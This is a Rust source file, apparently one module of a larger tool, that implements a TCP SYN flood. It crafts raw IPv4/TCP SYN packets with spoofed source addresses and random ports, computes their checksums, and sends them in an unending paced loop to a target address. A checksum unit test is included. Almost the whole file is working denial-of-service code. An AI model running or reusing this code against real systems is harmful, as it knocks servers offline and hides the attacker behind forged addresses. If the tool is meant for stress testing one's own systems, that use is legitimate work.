//! TCP's first packets from addresses that nobody has.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::sync::atomic::Ordering::Relaxed;

use rand::RngExt as _;
use socket2::{Domain, Protocol, Socket, Type};

use super::target::Target;
use super::{Counts, Pace};
use crate::world::STRANGERS;

/// Octets of an IPv4 header (RFC 791 section 3.1) and of a TCP header (RFC 9293 section 3.1), both without options.
const IP_HEADER: usize = 20;
const TCP_HEADER: usize = 20;

const TCP: u8 = 6;
const SYN: u8 = 0x02;

/// Sends them as fast as they are due.
pub(super) async fn flood(target: &Target, counts: &Counts, mut pace: Pace) -> io::Result<()> {
    let SocketAddr::V4(front) = target.front else {
        return Err(io::ErrorKind::Unsupported.into());
    };
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::TCP))?;
    socket.set_header_included_v4(true)?;
    socket.set_nonblocking(true)?;
    loop {
        for number in pace.due().await {
            let within = u32::try_from(number % u64::from(u32::MAX)).unwrap_or_default();
            let from = SocketAddrV4::new(STRANGERS.address(within), rand::random());
            counts.attempted.fetch_add(1, Relaxed);
            let packet = packet(from, front, rand::rng().random());
            if socket.send_to(&packet, &front.into()).is_err() {
                counts.turned_away.fetch_add(1, Relaxed); // the kernel's queue is full
            }
        }
    }
}

/// The first packet of a connection. The kernel adds the sum of the IP header (raw(7)).
fn packet(from: SocketAddrV4, to: SocketAddrV4, sequence: u32) -> [u8; IP_HEADER + TCP_HEADER] {
    let mut packet = [0; IP_HEADER + TCP_HEADER];
    let (ip, tcp) = packet.split_at_mut(IP_HEADER);
    ip[0] = 0x45;
    ip[3] = (IP_HEADER + TCP_HEADER) as u8;
    ip[8] = 64;
    ip[9] = TCP;
    ip[12..16].copy_from_slice(&from.ip().octets());
    ip[16..20].copy_from_slice(&to.ip().octets());
    tcp[..2].copy_from_slice(&from.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&to.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&sequence.to_be_bytes());
    tcp[12] = (TCP_HEADER as u8 / 4) << 4;
    tcp[13] = SYN;
    tcp[14..16].copy_from_slice(&u16::MAX.to_be_bytes());
    let sum = sum(*from.ip(), *to.ip(), tcp);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    packet
}

/// The sum over a header without one, and the addresses.
fn sum(from: Ipv4Addr, to: Ipv4Addr, tcp: &[u8]) -> u16 {
    let pseudo = [
        &from.octets()[..],
        &to.octets(),
        &[0, TCP, 0, TCP_HEADER as u8],
    ]
    .concat();
    let words = pseudo.chunks_exact(2).chain(tcp.chunks_exact(2));
    let mut sum: u32 = words
        .map(|word| u32::from(word[0]) << 8 | u32::from(word[1]))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_sum_over_a_packet_with_its_sum_is_nothing() {
        let from = SocketAddrV4::new(Ipv4Addr::new(198, 18, 3, 4), 40_000);
        let to = SocketAddrV4::new(Ipv4Addr::LOCALHOST, 443);
        let packet = packet(from, to, 0xdead_beef);
        assert_eq!(sum(*from.ip(), *to.ip(), &packet[IP_HEADER..]), 0);
    }
}
